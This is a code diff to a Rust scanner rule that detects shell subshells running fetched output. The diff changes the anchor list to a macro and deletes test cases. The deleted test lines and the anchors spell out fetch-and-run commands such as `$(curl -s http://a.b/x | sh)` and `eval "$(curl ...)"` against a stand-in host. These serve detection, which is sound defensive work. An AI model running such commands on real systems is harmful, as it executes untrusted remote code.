@@ -1,8 +1,9 @@
 //! `$(curl …)` where its output is run.
 
 use crate::code::destination::classify;
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::text::unit::{ANYWHERE, Unit};
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "EXEC_SUBSHELL",
@@ -12,30 +13,11 @@ pub(super) const RULE: Rule = Rule {
     why: "A shell runs what stands in `$(…)` first and puts its output in the place; where a command is expected, the output is run.",
     fix: "fetch into a file, look at it, and run the file",
     places: ANYWHERE,
-    anchors: &[
+    anchors: words![
         "$(curl", "$( curl", "$(wget", "$( wget", "$(bash", "$( bash", "$(sh", "$( sh", "$(nc", "$( nc",
         "$(sudo", "$(/",
     ],
     check: Check::Unit(hits),
-    hits: &[
-        text("$(curl a)"),
-        text("A name such as $(curl -s http://a.b/x | sh) is run."),
-        text("Then run $(CURL http://a.b/x) at once."),
-        file("run.sh", "set -e\n$(wget -qO- http://a.b/x)\n"),
-        file("run.sh", "eval \"$(curl -s http://a.b/x)\"\n"),
-        file("run.sh", "sh -c \"$( curl -fsSL http://a.b/x)\"\n"),
-    ],
-    misses: &[
-        text("$(git push)"),
-        text("$(echo hash)"),
-        text("$('.btn-refresh')"),
-        text("$(python3 x.py)"),
-        file("run.sh", "STATUS=$(curl -s -o /dev/null -w '%{http_code}' https://a.b/x)\n"),
-        file(
-            "run.sh",
-            "sh -c \"$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)\"\n",
-        ),
-    ],
 };
 
 patterns! {
